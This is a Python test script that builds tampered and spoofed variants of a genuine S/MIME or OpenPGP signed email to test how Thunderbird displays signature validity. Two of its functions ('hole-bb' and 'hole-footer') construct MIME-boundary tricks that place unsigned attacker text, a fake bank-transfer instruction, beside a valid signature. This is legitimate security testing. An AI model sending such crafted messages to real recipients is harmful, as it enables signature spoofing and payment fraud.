#!/usr/bin/env python3
"""Derived messages for the Thunderbird judge, from one genuine signed one.

  shapes.py KIND GENUINE OUT

KIND:
  tampered     one octet of the signed text changed (must show invalid)
  date-moved   only the Date header moved 3 hours back: the control that
               shows the judge sees Thunderbird's Date-vs-signingTime rule
  hole-bb      issue 18 shape 1: outer boundary renamed to BB and a line
               "--BB--x" plus the attacker's text after the signed part
  hole-footer  issue 18 shape 2: the genuine multipart/signed inside a
               multipart/mixed whose second part has two Content-Type fields
  outer-subject  issue 13: only the outer Subject changed (its RFC 9788
               protected copy in part 1 stays): the signature still holds;
               which Subject the reader shows tells whether it reads hp
"""
import email.utils
import re
import sys
import time

ATTACK = b"TAMBAHAN: transfer 500 juta ke rekening 123"


def split(msg):
    head, sep, body = msg.partition(b"\r\n\r\n")
    if not sep:
        sys.exit("no header/body separator")
    return head + b"\r\n", body


def boundary(head):
    m = re.search(rb'boundary="?([^";\r\n]+)"?', head, re.I)
    if not m:
        sys.exit("no boundary")
    return m.group(1)


def top_content_type(head):
    m = re.search(rb"^Content-Type:.*?(?=\r\n(?![ \t]))", head, re.I | re.M | re.S)
    if not m:
        sys.exit("no Content-Type")
    return m


def parts(body, b):
    """Part 1 and part 2 of a multipart/signed body (without delimiters)."""
    d = b"--" + b
    i = body.index(d + b"\r\n") + len(d) + 2
    j = body.index(b"\r\n" + d + b"\r\n", i)
    k = j + len(d) + 4
    e = body.index(b"\r\n" + d + b"--", k)
    return body[i:j], body[k:e]


def tampered(msg):
    head, body = split(msg)
    p1, _ = parts(body, boundary(head))
    h1, _, t1 = p1.partition(b"\r\n\r\n")
    m = re.search(rb"[A-Za-z]", t1)
    if not m:
        sys.exit("no letter in the signed text")
    pos = msg.index(p1) + len(h1) + 4 + m.start()
    c = msg[pos:pos + 1]
    return msg[:pos] + (b"X" if c != b"X" else b"Y") + msg[pos + 1:]


def date_moved(msg):
    head, body = split(msg)
    new = email.utils.formatdate(time.time() - 3 * 3600, localtime=False)
    head, n = re.subn(rb"^Date:[^\r\n]*(\r\n[ \t][^\r\n]*)*", b"Date: " +
                      new.encode(), head, count=1, flags=re.I | re.M)
    if n != 1:
        sys.exit("no Date to move")
    return head + b"\r\n" + body


def hole_bb(msg):
    head, body = split(msg)
    p1, p2 = parts(body, boundary(head))
    ct = top_content_type(head)
    head = head[:ct.start()] + re.sub(rb'boundary="?[^";\r\n]+"?',
                                      b'boundary="BB"', ct.group(0)) + head[ct.end():]
    body = (b"--BB\r\n" + p1 + b"\r\n--BB--x\r\n" + ATTACK + b"\r\n--BB\r\n" +
            p2 + b"\r\n--BB--\r\n")
    return head + b"\r\n" + body


def hole_footer(msg):
    head, body = split(msg)
    ct = top_content_type(head)
    head = (head[:ct.start()] + b'Content-Type: multipart/mixed; boundary="MIX"' +
            head[ct.end():])
    body = (b"--MIX\r\n" + ct.group(0) + b"\r\n\r\n" + body.rstrip(b"\r\n") +
            b"\r\n\r\n--MIX\r\nContent-Type: text/html; charset=utf-8\r\n"
            b"Content-Type: text/plain; charset=utf-8\r\n\r\n<h1>" + ATTACK +
            b"</h1>\r\n--MIX--\r\n")
    return head + b"\r\n" + body


def outer_subject(msg):
    head, body = split(msg)
    head, n = re.subn(rb"^Subject:[^\r\n]*(\r\n[ \t][^\r\n]*)*",
                      b"Subject: interop hp_outer_subject DIUBAH DI JALAN",
                      head, count=1, flags=re.I | re.M)
    if n != 1:
        sys.exit("no Subject to change")
    return head + b"\r\n" + body


def main():
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    kind, src, out = sys.argv[1:]
    fn = {"tampered": tampered, "date-moved": date_moved, "hole-bb": hole_bb,
          "hole-footer": hole_footer, "outer-subject": outer_subject}.get(kind)
    if fn is None:
        sys.exit("unknown kind " + kind)
    msg = open(src, "rb").read().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    open(out, "wb").write(fn(msg))


main()
